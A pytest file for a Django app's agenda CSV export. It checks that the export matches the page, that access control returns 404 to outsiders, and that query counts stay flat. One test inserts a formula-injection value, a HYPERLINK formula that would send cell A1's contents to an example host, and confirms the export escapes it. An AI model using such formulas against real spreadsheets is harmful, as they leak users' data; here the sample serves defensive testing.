"""The agenda's tables as one CSV: the rows the page shows (theme, activity, current state,
intended result, planning, partners), the status and budget of every year, for whoever may read
the page and no one else, with staff's free text never run as a formula."""

from __future__ import annotations

import csv
import io
import re
import uuid
from typing import Any

from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from jeugdketen.agenda import services
from jeugdketen.agenda.models import Activiteit, Agenda
from jeugdketen.core.rollen import Rol
from tests.agenda.factories import ActiviteitFactory, ActiviteitstatusFactory, BudgetFactory
from tests.conftest import actor
from tests.gezinnen.helpers import denied_logged
from tests.organisaties.factories import GebruikerFactory, MedewerkerFactory, OrganisatieFactory, RegioFactory

from .helpers import tekst
from .seeds import normaal


def _csv_url(agenda: Agenda) -> str:
    return reverse("agenda:agenda_csv", kwargs={"agenda": agenda.uuid})


def _csv(client: Client, agenda: Agenda) -> list[dict[str, str]]:
    response = client.get(_csv_url(agenda))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="agenda-{agenda.sleutel}.csv"'
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";"))


def _cellen(rij: str) -> list[str]:
    return [tekst(c) for _tag, c in re.findall(r"<(th|td)\b[^>]*>(.*?)</\1>", rij, flags=re.S)]


def _activiteiten_op_pagina(html: str) -> list[list[str]]:
    rijen = re.findall(r'<tr class="utrecht-table__row" id="activiteit-[^"]+">(.*?)</tr>', html, flags=re.S)
    return [_cellen(r) for r in rijen]


def _budgetten_op_pagina(html: str) -> list[list[str]]:
    tabellen = re.findall(r'aria-label="Budget: [^"]*">(.*?)</table>', html, flags=re.S)
    rijen = [r for t in tabellen for r in re.findall(r"<tbody[^>]*>(.*?)</tbody>", t, flags=re.S)]
    return [_cellen(r) for body in rijen for r in re.findall(r"<tr\b[^>]*>(.*?)</tr>", body, flags=re.S)]


def test_the_csv_holds_every_activity_row_the_page_shows_with_every_years_status_and_budget(
    client_for: Any, parkstad: Agenda
) -> None:
    eerste, tweede = list(Activiteit.objects.filter(thema__agenda=parkstad, thema__nummer=3).order_by("volgorde"))[:2]
    services.status_vastleggen(
        activiteit=eerste,
        by=actor("beleid"),
        basis_versie=eerste.versie,
        jaar=2021,
        status="afgerond",
        toelichting="Vier scholingen gegeven.\nNog één in 2022.",
    )
    ActiviteitstatusFactory(activiteit=tweede, jaar=2020, status="loopt", toelichting="")
    BudgetFactory(activiteit=eerste, jaar=2020, bedrag=110000)
    BudgetFactory(activiteit=eerste, jaar=2022, bedrag=5000)
    BudgetFactory(activiteit=tweede, jaar=2020, bedrag=20000)
    client = client_for("toegang")  # a professional reads the agenda: no edit links in the cells
    rijen = _csv(client, parkstad)

    for jaar in parkstad.jaren:
        html = client.get(reverse("agenda:agenda", kwargs={"agenda": parkstad.uuid}) + f"?jaar={jaar}").content.decode()
        pagina = _activiteiten_op_pagina(html)
        assert len(pagina) == len(rijen) == Activiteit.objects.filter(thema__agenda=parkstad).count()
        for cellen, rij in zip(pagina, rijen, strict=True):
            activiteit, *teksten, status = cellen
            assert activiteit.startswith(normaal(rij["activiteit"]))  # then the indicator's figure, if any
            velden = ("huidige_stand", "beoogd_resultaat", "planning", "partners")
            assert teksten == [normaal(rij[v]) for v in velden]
            vastgelegd = normaal(f"{rij[f'status_{jaar}']} {rij[f'toelichting_{jaar}']}")
            assert status == (vastgelegd or "Nog niet vastgelegd")
    koppen = [tekst(h) for h in re.findall(r'<h2 class="utrecht-heading-2" id="thema-[^"]+">(.*?)</h2>', html)]
    assert list(dict.fromkeys(r["thema"] for r in rijen)) == koppen

    geschreven = {r["activiteit"]: r for r in rijen}
    assert geschreven[eerste.activiteit]["status_2021"] == "Afgerond"
    assert geschreven[eerste.activiteit]["toelichting_2021"] == "Vier scholingen gegeven.\nNog één in 2022."
    assert geschreven[tweede.activiteit]["status_2020"] == "Loopt"

    met_budget = [r for r in rijen if any(r[f"budget_{j}"] for j in parkstad.jaren)]
    assert [[r[f"budget_{j}"] for j in parkstad.jaren] for r in met_budget] == [
        ["", "110000", "", "5000"],
        ["", "20000", "", ""],
    ]
    budget_op_pagina = [b for b in _budgetten_op_pagina(html) if b[0] != "Totaal"]
    assert [b[1:] for b in budget_op_pagina] == [
        [f"€ {r[f'budget_{j}']}" if r[f"budget_{j}"] else "" for j in parkstad.jaren] for r in met_budget
    ]


def test_staff_text_that_a_spreadsheet_would_run_stays_text(beleid: Client, parkstad: Agenda) -> None:
    thema = parkstad.themas.get(nummer=4)
    typed = '=HYPERLINK("https://example.org/?q="&A1;"klik")'
    ActiviteitFactory(thema=thema, activiteit=typed, partners="@gemeente", planning="-2+3", huidige_stand="2019-2020")
    rij = next(r for r in _csv(beleid, parkstad) if typed in r["activiteit"])
    assert rij["activiteit"] == "'" + typed
    assert (rij["partners"], rij["planning"], rij["huidige_stand"]) == ("'@gemeente", "'-2+3", "2019-2020")
    assert "=HYPERLINK(" in tekst(beleid.get(reverse("agenda:agenda", kwargs={"agenda": parkstad.uuid})).content)


def test_the_page_links_its_csv(client_for: Any, parkstad: Agenda) -> None:
    html = client_for("toegang").get(reverse("agenda:agenda", kwargs={"agenda": parkstad.uuid})).content.decode()
    assert f'href="{_csv_url(parkstad)}"' in html


def test_who_may_not_read_the_agenda_page_gets_the_404_for_its_csv_too(client_for: Any, parkstad: Agenda) -> None:
    pagina = reverse("agenda:agenda", kwargs={"agenda": parkstad.uuid})
    elders = OrganisatieFactory(regio=RegioFactory(naam="Westelijke Mijnstreek"))
    user = GebruikerFactory(username="beleid-elders")
    MedewerkerFactory(gebruiker=user, organisatie=elders, rol=Rol.BELEID)
    other = Client()
    other.force_login(user)
    for client in (client_for("ouder"), other):
        assert client.get(pagina).status_code == 404
        response = client.get(_csv_url(parkstad))
        assert response.status_code == 404
        assert "Content-Disposition" not in response
    assert denied_logged(str(parkstad.uuid))
    anoniem = Client().get(_csv_url(parkstad))
    assert anoniem.status_code in (302, 404) and "Content-Disposition" not in anoniem
    assert client_for("toegang").get(_csv_url(parkstad)).status_code == 200
    assert client_for("beleid").get(reverse("agenda:agenda_csv", kwargs={"agenda": uuid.uuid4()})).status_code == 404


def test_the_csv_takes_the_same_number_of_queries_with_more_activities(beleid: Client, parkstad: Agenda) -> None:
    beleid.get(_csv_url(parkstad))
    with CaptureQueriesContext(connection) as before:
        beleid.get(_csv_url(parkstad))
    thema = parkstad.themas.get(nummer=4)
    for i in range(15):
        a = ActiviteitFactory(thema=thema, activiteit=f"Extra {i}")
        BudgetFactory(activiteit=a, jaar=2020, bedrag=1000 + i)
        ActiviteitstatusFactory(activiteit=a, jaar=2021, status="loopt")
    with CaptureQueriesContext(connection) as after:
        rijen = _csv(beleid, parkstad)
    assert len(after) == len(before)
    assert {"Extra 0", "Extra 14"} <= {r["activiteit"] for r in rijen}
